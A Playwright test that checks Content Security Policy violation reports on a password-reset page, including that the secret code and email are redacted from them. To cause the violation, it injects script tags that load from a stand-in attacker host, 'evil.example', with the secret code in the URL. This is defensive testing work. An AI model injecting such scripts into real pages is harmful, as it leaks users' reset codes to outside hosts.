import { expect } from 'playwright/test';
import { test } from '../../support/app.ts';
import { CSP_REPORT_URL, MOCK_API_URL } from '../../support/builds.ts';

test('a violation of the policy is reported once, without the code in the address', async ({ page }) => {
  const reports: { body: string; referrer: string | undefined }[] = [];
  await page.route(CSP_REPORT_URL, (route) => {
    const request = route.request();
    reports.push({ body: request.postData() ?? '', referrer: request.headers().referer });
    return route.fulfill({ status: 204, headers: { 'Access-Control-Allow-Origin': '*' } });
  });
  // Never answered, so that the page stays while both violations are reported.
  await page.route(`${MOCK_API_URL}userAuth/verifyCode`, () => {});
  await page.goto('setPassword/secret-code-7/setPassword?email=who@clinic.test');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  await page.evaluate(() => {
    for (let turn = 0; turn < 3; turn++) {
      const script = document.createElement('script');
      script.src = 'https://evil.example/track.js?secret-code-7';
      document.head.append(script);
    }
  });
  await expect.poll(() => reports.length).toBeGreaterThan(0);
  // A second kind of violation, so that repeated reports of the first one would have arrived.
  await page.evaluate(() => void fetch('https://other.example/').catch(() => {}));
  await expect.poll(() => reports.length).toBe(2);
  const routePath = '/setPassword/$code/setPassword';
  expect(reports.map(({ body }) => JSON.parse(body))).toEqual([
    { directive: 'script-src-elem', blocked: 'https://evil.example', page: routePath },
    { directive: 'connect-src', blocked: 'https://other.example', page: routePath },
  ]);
  expect(JSON.stringify(reports)).not.toMatch(/secret|who@/);
});
